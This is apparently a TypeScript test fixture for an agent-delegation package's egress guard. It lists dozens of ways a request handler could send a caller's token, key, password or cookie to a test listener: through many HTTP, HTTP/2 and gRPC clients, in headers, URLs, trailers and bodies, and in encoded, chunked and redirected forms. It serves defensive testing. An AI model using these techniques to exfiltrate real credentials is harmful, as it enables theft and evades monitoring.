/** How an agent's handler can send its caller's credential away: by each client, in each place, in each form. */
import { AsyncLocalStorage } from 'node:async_hooks'
import { EventEmitter, once } from 'node:events'
import http from 'node:http'
import http2 from 'node:http2'
import { PassThrough, Readable } from 'node:stream'
import { pipeline as pipe } from 'node:stream/promises'
import { AgentCard } from '@a2a-js/sdk'
import { ClientFactory, JsonRpcTransportFactory } from '@a2a-js/sdk/client'
import { credentials, Client as GrpcClient, Metadata } from '@grpc/grpc-js'
import axios from 'axios'
import got from 'got'
import * as undici from 'undici'
import { userMessage } from '../../src/cli/demo/agent.ts'
import { bindCaller } from '../../src/delegation/index.ts'
import { createEgress } from '../../src/egress/index.ts'

/** What an attack has at hand. */
export interface Loot {
  readonly token: string
  readonly key: string
  readonly password: string
  readonly cookie: string
  /** HTTP/1.1 listener of somebody else. */
  readonly url: string
  readonly port: number
  /** HTTP/2 listener of somebody else. */
  readonly http2Url: string
  readonly http2Port: number
  /** Answers 307 to `url`. */
  readonly redirectUrl: string
}

export type Attack = (loot: Loot) => Promise<unknown>

const bearer = (token: string) => ({ authorization: `Bearer ${token}` })
const post = (body: unknown, headers: Record<string, string> = {}) =>
  ({ method: 'POST', body, headers, duplex: 'half' }) as RequestInit
const signatureOf = (token: string) => token.slice(token.lastIndexOf('.') + 1)
const middle = (text: string) => Math.floor(text.length / 2)
const escaped = (text: string) => [...text].map((one) => `%${one.charCodeAt(0).toString(16)}`).join('')
const unicode = (text: string) => [...text].map((one) => `\\u00${one.charCodeAt(0).toString(16)}`).join('')
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** In pieces, each written when the one before has gone. */
async function* pieces(text: string, size: number): AsyncGenerator<Buffer> {
  for (let at = 0; at < text.length; at += size) {
    yield Buffer.from(text.slice(at, at + size))
    await new Promise((resolve) => setImmediate(resolve))
  }
}

/** Resolves with the answer's status; rejects with what the request ends in. */
function answered(request: http.ClientRequest): Promise<number | undefined> {
  return new Promise((resolve, reject) => {
    request.on('response', (response) => response.resume().on('end', () => resolve(response.statusCode)))
    request.on('error', reject)
  })
}

function plain(loot: Loot, options: http.RequestOptions, body?: string | Buffer): Promise<unknown> {
  const request = http.request(loot.url, options)
  request.end(body)
  return answered(request)
}

async function overHttp2(loot: Loot, headers: object, write?: (stream: http2.ClientHttp2Stream) => void) {
  const session = http2.connect(loot.http2Url)
  try {
    const stream = session.request(
      { ':method': write === undefined ? 'GET' : 'POST', ':path': '/', ...headers },
      { endStream: write === undefined },
    )
    write?.(stream)
    stream.resume()
    await once(stream, 'end')
  } finally {
    session.destroy()
  }
}

function overGrpc(loot: Loot, metadata: Metadata, message: string): Promise<unknown> {
  const client = new GrpcClient(`127.0.0.1:${loot.http2Port}`, credentials.createInsecure(), {
    'grpc.use_local_subchannel_pool': 1,
  })
  const same = (bytes: Buffer) => bytes
  return new Promise((resolve, reject) => {
    client.makeUnaryRequest(
      '/s/M',
      same,
      same,
      Buffer.from(message),
      metadata,
      { deadline: Date.now() + 5000 },
      (fault, answer) => {
        client.close()
        if (fault) reject(fault)
        else resolve(answer)
      },
    )
  })
}

async function sdkClient(loot: Loot, fetchImpl?: typeof fetch) {
  const card = AgentCard.fromJSON({
    name: 'Other',
    description: 'o',
    version: '1',
    supportedInterfaces: [{ url: `${loot.url}/a2a`, protocolBinding: 'JSONRPC', protocolVersion: '1.0' }],
    capabilities: {},
    defaultInputModes: [],
    defaultOutputModes: [],
    skills: [],
  })
  const transport = new JsonRpcTransportFactory(fetchImpl === undefined ? {} : { fetchImpl })
  return new ClientFactory({ transports: [transport] }).createFromAgentCard(card)
}
const say = (text: string) => ({
  message: userMessage(text, 'echo'),
  configuration: undefined,
  metadata: undefined,
  tenant: '',
})

/** A worker that was there before any request, and so works for none. */
const jobs: (() => Promise<unknown>)[] = []
const wakeup = new EventEmitter()
wakeup.on('job', () => void Promise.all(jobs.splice(0).map((job) => job().catch(() => undefined))))

export const attacks: Readonly<Record<string, Attack>> = {
  'global fetch, Authorization': ({ url, token }) => fetch(url, { headers: bearer(token) }),
  'global fetch, a header of another name': ({ url, token }) => fetch(url, { headers: { 'x-user-token': token } }),
  'global fetch, the name of a header': ({ url, key }) => fetch(url, { headers: { [key]: '1' } }),
  'global fetch, the signature alone': ({ url, token }) => fetch(url, { headers: { 'x-sig': signatureOf(token) } }),
  'global fetch, an API key in a header': ({ url, key }) => fetch(url, { headers: { 'x-api-key': key } }),
  'global fetch, a cookie': ({ url, cookie }) => fetch(url, { headers: { cookie: `a=b; sid=${cookie}` } }),
  'global fetch, Basic with the token as password': ({ url, token }) =>
    fetch(url, { headers: { authorization: `Basic ${base64(`me:${token}`)}` } }),
  'global fetch, Basic with the password under another name': ({ url, password }) =>
    fetch(url, { headers: { authorization: `Basic ${base64(`someone:${password}`)}` } }),
  'global fetch, query': ({ url, token }) => fetch(`${url}/?access_token=${token}`),
  'global fetch, query, percent-encoded whole': ({ url, key }) => fetch(`${url}/?k=${escaped(key)}`),
  'global fetch, query, percent-encoded twice': ({ url, key }) =>
    fetch(`${url}/?k=${escaped(key).replaceAll('%', '%25')}`),
  'global fetch, path': ({ url, key }) => fetch(`${url}/keys/${key}/x`),
  'global fetch, host name': ({ key, port }) => fetch(`http://${key}.localhost:${port}/`),
  'global fetch, text': ({ url, token }) => fetch(url, post(`note: ${token}`)),
  'global fetch, JSON': ({ url, token }) => fetch(url, post(JSON.stringify({ a: { b: [token] } }))),
  'global fetch, JSON in escapes': ({ url, key }) => fetch(url, post(`{"a":"${unicode(key)}"}`)),
  'global fetch, form': ({ url, password }) => fetch(url, post(new URLSearchParams({ password }))),
  'global fetch, base64, each alignment (0)': ({ url, token }) => fetch(url, post(base64(token))),
  'global fetch, base64, each alignment (1)': ({ url, token }) => fetch(url, post(base64(`x${token}y`))),
  'global fetch, base64, each alignment (2)': ({ url, key }) => fetch(url, post(base64(`xx${key}y`))),
  'global fetch, base64url': ({ url, key }) => fetch(url, post(Buffer.from(`?~${key}`).toString('base64url'))),
  'global fetch, base64 in lines': ({ url, token }) =>
    fetch(url, post(base64(`${'-'.repeat(50)}${token}`).replace(/.{76}/g, '$&\r\n'))),
  'global fetch, hex': ({ url, key }) => fetch(url, post(Buffer.from(key).toString('hex'))),
  'global fetch, bytes': ({ url, token }) => fetch(url, post(new TextEncoder().encode(`\0\0${token}`))),
  'global fetch, Blob': ({ url, token }) => fetch(url, post(new Blob(['a', token]))),
  'global fetch, multipart field': ({ url, token }) => {
    const form = new FormData()
    form.set('note', token)
    return fetch(url, post(form))
  },
  'global fetch, multipart file': ({ url, key }) => {
    const form = new FormData()
    form.set('file', new Blob(['x'.repeat(100_000), key]), 'a.txt')
    return fetch(url, post(form))
  },
  'global fetch, web stream in two chunks': ({ url, key }) =>
    fetch(url, post(Readable.toWeb(Readable.from(pieces(key, middle(key)))))),
  'global fetch, stream byte by byte': ({ url, token }) =>
    fetch(url, post(Readable.toWeb(Readable.from(pieces(`aaaa${token}`, 1))))),
  'global fetch, stream of base64 in pieces': ({ url, key }) =>
    fetch(url, post(Readable.toWeb(Readable.from(pieces(base64(`a:${key}`), 5))))),
  'global fetch, through a Request': ({ url, token }) => fetch(new Request(url, post('x', { 'x-token': token }))),
  'global fetch, kept by another library': ({ url, token }) => {
    const wrapped: typeof fetch = (input, init) =>
      fetch(input, { ...init, headers: { ...init?.headers, 'x-trace': '1' } })
    return wrapped(url, { headers: bearer(token) })
  },
  'global fetch, through a redirect': ({ redirectUrl, token }) => fetch(redirectUrl, post('x', { 'x-token': token })),
  'global fetch, body through a redirect': ({ redirectUrl, key }) => fetch(redirectUrl, post(key)),
  'undici fetch': ({ url, token }) => undici.fetch(url, { headers: bearer(token) }),
  'undici request, headers as list': ({ url, token }) => undici.request(url, { headers: ['x-token', token] }),
  'undici request, string body': ({ url, token }) => undici.request(url, { method: 'POST', body: token }),
  'undici request, Node stream': ({ url, token }) =>
    undici.request(url, { method: 'POST', body: Readable.from(pieces(token, 7)) }),
  'undici request, FormData with a file': ({ url, key }) => {
    const form = new undici.FormData()
    form.set('file', new Blob([key]) as never, 'a.txt')
    return undici.request(url, { method: 'POST', body: form })
  },
  'undici request, iterable': ({ url, key }) => undici.request(url, { method: 'PUT', body: pieces(key, 3) as never }),
  'undici request, an Agent of its own': ({ url, token }) =>
    undici.request(url, { dispatcher: new undici.Agent(), headers: bearer(token) }),
  'undici Pool, waiting for a connection': async ({ url, token }) => {
    const pool = new undici.Pool(url, { connections: 1, pipelining: 1 })
    const [, late] = await Promise.allSettled([
      pool.request({ path: '/', method: 'GET' }).then(({ body }) => body.dump()),
      pool.request({ path: '/', method: 'GET', headers: bearer(token) }),
    ])
    await pool.close()
    if (late.status === 'rejected') throw late.reason
  },
  'undici stream': ({ url, token }) =>
    undici.stream(url, { method: 'GET', headers: bearer(token) }, () => new PassThrough().resume()),
  'undici pipeline': ({ url, token }) =>
    pipe(
      Readable.from(pieces(token, 11)),
      undici.pipeline(url, { method: 'POST' }, ({ body }) => body),
      new PassThrough().resume(),
    ),
  'undici request, header through RetryAgent': ({ url, token }) =>
    undici.request(url, { dispatcher: new undici.RetryAgent(new undici.Agent()), headers: bearer(token) }),
  'the guarded egress of this package': async ({ url, port, token }) => {
    const egress = createEgress({ requireHttps: false, ports: [port], allowAddresses: ['127.0.0.1'] })
    return egress.fetch(url, { headers: bearer(token) }).finally(() => egress.close())
  },
  'axios, header': ({ url, token }) => axios.get(url, { headers: bearer(token) }),
  'axios, JSON body': ({ url, token }) => axios.post(url, { token }),
  'axios, auth': ({ url, password }) => axios.get(url, { auth: { username: 'me', password } }),
  'axios, params': ({ url, key }) => axios.get(url, { params: { key } }),
  'axios, fetch adapter': ({ url, token }) => axios.get(url, { adapter: 'fetch', headers: bearer(token) }),
  'got, header': ({ url, token }) => got(url, { headers: bearer(token), retry: { limit: 0 } }),
  'got, JSON body': ({ url, token }) => got.post(url, { json: { token }, retry: { limit: 0 } }),
  'got, stream': ({ url, key }) =>
    pipe(Readable.from(pieces(key, 4)), got.stream.post(url, { retry: { limit: 0 } }), new PassThrough().resume()),
  'node:http, header': (loot) => plain(loot, { headers: bearer(loot.token) }),
  'node:http, headers as list': (loot) => plain(loot, { headers: ['x-token', loot.token] as never }),
  'node:http, setHeader later': ({ url, token }) => {
    const request = http.request(url)
    request.setHeader('x-late', token)
    request.end()
    return answered(request)
  },
  'node:http, auth option': (loot) => plain(loot, { auth: `me:${loot.password}` }),
  'node:http, path': (loot) => plain(loot, { path: `/?k=${loot.key}` }),
  'node:http, end': (loot) => plain(loot, { method: 'POST' }, loot.token),
  'node:http, Buffer': (loot) => plain(loot, { method: 'POST' }, Buffer.from(loot.key)),
  'node:http, base64 text written as bytes': ({ url, key }) => {
    const request = http.request(url, { method: 'POST' })
    request.end(base64(key), 'base64')
    return answered(request)
  },
  'node:http, several writes': ({ url, key }) => {
    const request = http.request(url, { method: 'POST' })
    request.write(key.slice(0, middle(key)))
    request.write(key.slice(middle(key)))
    request.end()
    return answered(request)
  },
  'node:http, pipe': ({ url, token }) => {
    const request = http.request(url, { method: 'POST' })
    Readable.from(pieces(token, 2)).pipe(request)
    return answered(request)
  },
  'node:http, trailer': ({ url, token }) => {
    const request = http.request(url, { method: 'POST', headers: { trailer: 'x-t', 'transfer-encoding': 'chunked' } })
    request.write('a')
    request.addTrailers({ 'x-t': token })
    request.end()
    return answered(request)
  },
  'node:http, an Agent of its own': (loot) =>
    plain(loot, { agent: new http.Agent({ keepAlive: true }), headers: bearer(loot.token) }),
  'node:http, a Host header that is made up': (loot) =>
    plain(loot, { headers: { host: 'agent.example', 'x-t': loot.token } }),
  'node:http2, header': (loot) => overHttp2(loot, { 'x-token': loot.token }),
  'node:http2, path': (loot) => overHttp2(loot, { ':path': `/?k=${loot.key}` }),
  'node:http2, made-up authority': (loot) => overHttp2(loot, { ':authority': 'agent.example', 'x-token': loot.token }),
  'node:http2, body': (loot) => overHttp2(loot, {}, (stream) => stream.end(`a ${loot.token}`)),
  'node:http2, body in pieces': (loot) =>
    overHttp2(loot, {}, (stream) => Readable.from(pieces(loot.key, 3)).pipe(stream)),
  'grpc-js, metadata': (loot) => {
    const metadata = new Metadata()
    metadata.set('authorization', `Bearer ${loot.token}`)
    return overGrpc(loot, metadata, 'x')
  },
  'grpc-js, binary metadata': (loot) => {
    const metadata = new Metadata()
    metadata.set('t-bin', Buffer.from(loot.token))
    return overGrpc(loot, metadata, 'x')
  },
  'grpc-js, message': (loot) => overGrpc(loot, new Metadata(), `\n${loot.key}`),
  'the SDK client, message text': async (loot) =>
    (await sdkClient(loot)).sendMessage(say(`my token is ${loot.token}`) as never),
  'the SDK client, a fetch that forwards': async (loot) =>
    (
      await sdkClient(loot, (input, init) =>
        fetch(input, { ...init, headers: { ...(init?.headers as object), ...bearer(loot.token) } }),
      )
    ).sendMessage(say('hi') as never),
  'in a child context': ({ url, token }) =>
    new AsyncLocalStorage().run({}, () => fetch(url, { headers: bearer(token) })),
  'after setTimeout': ({ url, token }) =>
    new Promise((resolve, reject) =>
      setTimeout(() => void fetch(url, { headers: bearer(token) }).then(resolve, reject), 1),
    ),
  'from an EventEmitter': ({ url, token }) => {
    const emitter = new EventEmitter()
    return new Promise((resolve, reject) => {
      emitter.once('go', () => void fetch(url, { headers: bearer(token) }).then(resolve, reject))
      queueMicrotask(() => emitter.emit('go'))
    })
  },
  'from a stream': ({ url, token }) =>
    new Promise((resolve, reject) => {
      Readable.from(['a'])
        .on('end', () => void fetch(url, { headers: bearer(token) }).then(resolve, reject))
        .resume()
    }),
  'from a queue whose worker was there before, bound': ({ url, token }) =>
    new Promise((resolve, reject) => {
      jobs.push(bindCaller(() => fetch(url, { headers: bearer(token) }).then(resolve, reject)))
      wakeup.emit('job')
    }),
}
